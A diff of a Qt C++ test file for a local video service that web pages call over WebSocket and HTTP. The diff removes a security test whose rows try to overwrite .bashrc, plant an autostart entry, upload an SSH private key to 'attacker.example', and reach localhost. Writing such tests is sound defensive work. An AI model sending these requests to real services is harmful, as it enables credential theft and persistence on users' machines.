@@ -2,8 +2,10 @@
 // build, Qt's offscreen platform: no browser window is ever found), as pages
 // reach it over WebSocket and HTTP: response envelopes, empty answers,
 // scripted library results, library events reaching the page that owns the
-// window, windows going with their clients, and pages kept out of the user's
-// files. Ports 27900-27909; the media folders are temporary ones.
+// window, windows going with their clients, and pages kept to their own
+// transfers and the media folders (the requests pass to the library as they
+// came: its path checks are tst_video_control's). Ports 27900-27909; the
+// media folders are temporary ones.
 #include "HttpTestClient.h"
 #include "PageSocket.h"
 #include "ServiceProcess.h"
@@ -16,7 +18,6 @@
 #include <QJsonObject>
 #include <QtTest>
 
-#include <QDirIterator>
 #include <QSet>
 #include <QTemporaryDir>
 
@@ -57,7 +58,7 @@ class TestVideoService : public QObject {
     Q_OBJECT
 
 private:
-    QTemporaryDir m_folder;  // the media folders, and a home with files pages must not reach
+    QTemporaryDir m_folder;  // the media folders
     std::unique_ptr<ServiceProcess> m_pService;
     quint16 m_port = 0;
     std::unique_ptr<PageSocket> m_pFirst, m_pSecond, m_pWindowless;
@@ -80,10 +81,7 @@ private:
     QByteArray httpAnswer(const QByteArray& baBody) {
         return HttpTestClient::answer(m_port, HttpTestClient::post(baBody));
     }
-    // "shown", "hidden" or "none": the window registered under strUuid.
-    QString windowState(const QString& strUuid) {
-        return m_pService->ask("window " + strUuid.toUtf8(), QStringLiteral("test hook: window %1 ").arg(strUuid));
-    }
+    QString windowState(const QString& strUuid) { return m_pService->windowState(strUuid); }
     // Everything the page received before the answer to a request sent now,
     // taken off its list: what earlier requests and events sent it.
     QStringList drain(PageSocket& page) {
@@ -99,19 +97,9 @@ private:
         return listBefore;
     }
 
-    // Every file and folder under the home and the folder outside.
-    QStringList outsideFiles() const {
-        QStringList files;
-        for (const char* szFolder : {"home", "outside"}) {
-            QDirIterator it(m_folder.filePath(szFolder), QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot,
-                            QDirIterator::Subdirectories);
-            while (it.hasNext()) files << it.next();
-        }
-        return files;
-    }
     // The answer to a request of the first page (it has a window).
     QJsonObject answerOfFirst(const QString& strRequest) {
-        m_pFirst->send(QString(strRequest).replace("%1", m_pFirst->uuid()).replace("%2", m_folder.path()).toUtf8());
+        m_pFirst->send(QString(strRequest).replace("%1", m_pFirst->uuid()).toUtf8());
         const QStringList listReceived = drain(*m_pFirst);
         return listReceived.size() == 1 ? json(listReceived[0].toUtf8()) : QJsonObject();
     }
@@ -119,12 +107,6 @@ private:
 private slots:
     void initTestCase() {
         QVERIFY(m_folder.isValid());
-        for (const char* szFolder : {"home/.ssh", "outside"}) QVERIFY(QDir().mkpath(m_folder.filePath(szFolder)));
-        for (const char* szFile : {"home/.bashrc", "home/.ssh/id_rsa", "outside/secret.mp4"}) {
-            QFile file(m_folder.filePath(szFile));
-            QVERIFY(file.open(QIODevice::WriteOnly));
-            file.write("the user's");
-        }
         const QJsonObject folders{{"SnapshotFolder", m_folder.filePath("snapshots")},
                                   {"RecordingFolder", m_folder.filePath("recordings")},
                                   {"DownloadFolder", m_folder.filePath("downloads")}};
@@ -155,9 +137,7 @@ private slots:
         m_pWindowless.reset();
         if (!m_pService) return;
         QVERIFY(m_pService->isRunning());
-        m_pService->terminate();
-        QVERIFY(m_pService->waitForFinished());
-        QCOMPARE(m_pService->exitCode(), 0);
+        QVERIFY(m_pService->stop());
     }
 
     // "%1" stands for the client's uuid: a client with a window (bWindow) or
@@ -174,9 +154,6 @@ private slots:
             QTest::newRow("global, no window at all" + over)
                 << bHttp << false << QByteArray(R"({"cmd":"video.setLocalConfig","uuid":"%1","sequence":5})")
                 << QByteArray() << R"({"sequence":5,)" + envelope + "}";
-            QTest::newRow("window-bound, no window" + over)
-                << bHttp << false << QByteArray(R"({"cmd":"video.startPlay","uuid":"%1","sequence":"2"})")
-                << QByteArray() << QByteArray();
             QTest::newRow("library result replaces" + over)
                 << bHttp << true << QByteArray(R"({"cmd":"video.capture","uuid":"%1","sequence":"3"})")
                 << QByteArray(R"(VC_Snapshot {"errorCode":7,"uuid":"library","path":"/p.png"})")
@@ -187,8 +164,9 @@ private slots:
         QTest::newRow("text sequence, third dot part")
             << true << false << QByteArray(R"({"cmd":"video.setLocalConfig.x","uuid":"%1","sequence":"7"})")
             << QByteArray() << R"({"sequence":"7",)" + envelope + "}";
-        QTest::newRow("answers empty with a window")
-            << false << true << QByteArray(R"({"cmd":"video.setPlayMode","uuid":"%1","sequence":1})") << QByteArray()
+        // The empty answers over WebSocket are everyCommand's.
+        QTest::newRow("window-bound, no window over HTTP")
+            << true << false << QByteArray(R"({"cmd":"video.startPlay","uuid":"%1","sequence":"2"})") << QByteArray()
             << QByteArray();
         QTest::newRow("talk without the component")
             << true << true << QByteArray(R"({"cmd":"video.startTalk","uuid":"%1","sequence":[1]})")
@@ -309,48 +287,6 @@ private slots:
         QCOMPARE(setCalled.size(), 91 + 1);  // 91 library functions, and none for the others
 
         QVERIFY(scriptAll([](const QByteArray&) { return QByteArray("{}"); }));
-    }
-
-    // What a page of any site tried on the user's files ("%1" the page's
-    // uuid, "%2" the temporary folder): each fails with its error, and
-    // nothing outside the media folders changes. (Urls in plain strings:
-    // moc takes "//" inside a raw string for a comment.)
-    void attacksOnTheUsersFilesFail_data() {
-        QTest::addColumn<QString>("request");
-        QTest::addColumn<int>("iErrorCode");
-        const QString strCommand = QStringLiteral(R"({"uuid":"%1","sequence":"a",)");
-        QTest::newRow("download over .bashrc") << strCommand +
-                                                      "\"cmd\":\"video.downloadFile\",\"url\":\"http://"
-                                                      "attacker.example/x.sh\",\"path\":\"%2/home/.bashrc\"}"
-                                               << 3024;
-        QTest::newRow("download into autostart")
-            << strCommand +
-                   "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x\",\"path\":\"../../home/.config/"
-                   "autostart/x.desktop\"}"
-            << 3024;
-        QTest::newRow("upload the ssh key") << strCommand +
-                                                   "\"cmd\":\"video.uploadFile\",\"url\":\"http://attacker.example/"
-                                                   "up\",\"path\":\"%2/home/.ssh/id_rsa\"}"
-                                            << 3024;
-        QTest::newRow("record anywhere") << strCommand + R"("cmd":"video.startSave","path":"%2/outside/new/x.mp4"})"
-                                         << 3024;
-        QTest::newRow("settings make folders anywhere")
-            << strCommand + R"("cmd":"video.setLocalConfig","recordPath":"%2/outside/new"})" << 3024;
-        QTest::newRow("play a file that exists")
-            << strCommand + "\"cmd\":\"video.startPlay\",\"url\":\"file://%2/outside/secret.mp4\"}" << 3024;
-        QTest::newRow("play a file that does not")
-            << strCommand + "\"cmd\":\"video.startPlay\",\"url\":\"file://%2/outside/none.mp4\"}" << 3024;
-        QTest::newRow("download from this machine")
-            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://127.0.0.1:27900/\"}" << 3025;
-        QTest::newRow("download from this machine by name")
-            << strCommand + "\"cmd\":\"video.startAsyncDownload\",\"url\":\"http://localhost:27900/\"}" << 3025;
-    }
-    void attacksOnTheUsersFilesFail() {
-        QFETCH(QString, request);
-        QFETCH(int, iErrorCode);
-        const QStringList before = outsideFiles();
-        QCOMPARE(answerOfFirst(request).value("errorCode").toInt(), iErrorCode);
-        QCOMPARE(outsideFiles(), before);
     }
 
     // getLocalConfig tells the media folders and nothing else of the user's;
